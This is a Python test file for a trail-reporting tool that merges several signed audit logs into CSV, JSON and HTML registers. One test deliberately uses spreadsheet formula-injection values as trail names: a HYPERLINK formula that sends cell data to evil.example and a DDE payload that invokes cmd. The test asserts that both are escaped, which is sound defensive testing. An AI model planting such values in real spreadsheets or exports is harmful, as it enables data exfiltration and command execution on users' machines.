"""One register, and pages with an index, over the trails of several writers."""

import csv
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from tests.answered import Run, answering  # noqa: F401 - a fixture

from carnet.trail import Trail, records


@pytest.fixture
def twins(made: Any, tmp_path: Path) -> list[str]:
    """The same calls in the logs of two writers."""
    key = Ed25519PrivateKey.generate()
    other = tmp_path / "other"
    with Trail.open(
        other,
        origin="acme.example/other",
        signing_key=key,
        highwater=tmp_path / "marks",
        publish_interval_s=None,
    ) as trail:
        trail.append_many(
            [json.loads(e.data) for e in records(made.trail) if _is_call(e)]
        )
    return [str(made.trail), str(other)]


def _is_call(entry: Any) -> bool:
    return b'"type":"transfer.' in entry.data or b'"type":"policy"' in entry.data


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("form", ["csv", "art30-csv"])
def test_the_name_of_a_trail_is_no_formula(
    form: str, made: Any, tmp_path: Path, run: Run
) -> None:
    names = ("=HYPERLINK('http://evil.example/?'&C2)", "@SUM(1)*cmd|'/C'!A0", "a/t")
    places = []
    for number, origin in enumerate(names):
        places.append(str(tmp_path / str(number)))
        with Trail.open(
            tmp_path / str(number),
            origin=origin,
            signing_key=Ed25519PrivateKey.generate(),
            highwater=tmp_path / "marks",
            publish_interval_s=None,
        ) as trail:
            calls = [e for e in records(made.trail) if _is_call(e)]
            trail.append_many([json.loads(e.data) for e in calls])
    out = tmp_path / "all.csv"
    assert run("report", *places, "--format", form, "--out", str(out))[0] == 0
    found = {row["trail"] for row in rows(out)}
    assert found == {f"'{names[0]}", f"'{names[1]}", "a/t"}


def test_rows_of_several_trails_stand_in_one_table_under_their_trail(
    twins: list[str], tmp_path: Path, run: Run
) -> None:
    alone, out = tmp_path / "one.csv", tmp_path / "all.csv"
    for form in ("csv", "art30-csv"):
        assert run("report", twins[0], "--format", form, "--out", str(alone))[0] == 0
        code, document = run("report", *twins, "--format", form, "--out", str(out))
        assert code == 0, document
        origins = [one["source"]["origin"] for one in document["trails"]]
        found = rows(out)
        mine = [row for row in found if row.pop("trail") == origins[0]]
        assert mine == rows(alone)
        assert 0 < len(mine) < len(found)
        alone.unlink()
        out.unlink()


def test_persons_of_one_counter_are_summed_as_an_upper_bound_and_said_to_be(
    twins: list[str], tmp_path: Path, run: Run
) -> None:
    out = tmp_path / "all.csv"
    code, document = run("report", *twins, "--format", "counters", "--out", str(out))
    assert code == 0, document
    found = rows(out)
    sums = [row for row in found if row["trail"].startswith("all (upper bound")]
    assert sums
    for one in sums:
        same = ("law", "class", "counterparty", "window_first", "window_last")
        parts = [
            int(row["persons"])
            for row in found
            if row not in sums and all(row[name] == one[name] for name in same)
        ]
        assert int(one["persons"]) == sum(parts) > 0


def test_documents_stand_whole_beside_each_other(
    twins: list[str], tmp_path: Path, run: Run
) -> None:
    out = tmp_path / "all.json"
    assert run("report", *twins, "--format", "art30-json", "--out", str(out))[0] == 0
    document = json.loads(out.read_bytes())
    told = [one["source"]["origin"] for one in document["registers"]]
    assert told == document["trails"]
    assert len(set(told)) == 2


def test_each_trail_has_a_page_and_the_index_names_them(
    twins: list[str], tmp_path: Path, run: Run
) -> None:
    folder = tmp_path / "pages"
    code, document = run("report", *twins, "--html", str(folder), "--lang", "de")
    assert code == 0, document
    names = {path.name for path in folder.iterdir()}
    assert len(names) == 3
    index = (folder / "index.html").read_text(encoding="utf-8")
    for name in names - {"index.html"}:
        assert f'href="{name}"' in index
        assert 'data-verdict="unchecked"' in (folder / name).read_text(encoding="utf-8")
    for one in document["trails"]:
        assert one["checkpoint"]["root"].replace("+", "+") in index


def test_what_cannot_be_merged_honestly_is_refused_and_nothing_is_left(
    twins: list[str], tmp_path: Path, run: Run
) -> None:
    out = str(tmp_path / "all")
    assert run("report", *twins, "--format", "evidence-pack", "--out", out)[0] == 2
    assert run("report", *twins, "--format", "csv")[0] == 2
    for asked, said in (
        (("--format", "counters"), "counters of several trails: goes into a file"),
        (("--format", "parquet"), "parquet: is of one trail alone"),
        (("--format", "cvs"), "--format: no such register"),
        ((), "several trails: which register"),
    ):
        code, told = run("report", *twins, *asked, "--json")
        assert (code, told["findings"][0]["message"]) == (2, said)
    copy = tmp_path / "copy"
    shutil.copytree(twins[1], copy)
    twice = ("report", twins[1], str(copy), "--format", "csv", "--out", out)
    assert run(*twice)[0] == 2
    assert run("report", twins[0], "none", "--format", "csv", "--out", out)[0] == 3
    assert not Path(out).exists()
    assert not list(tmp_path.glob(".all*"))
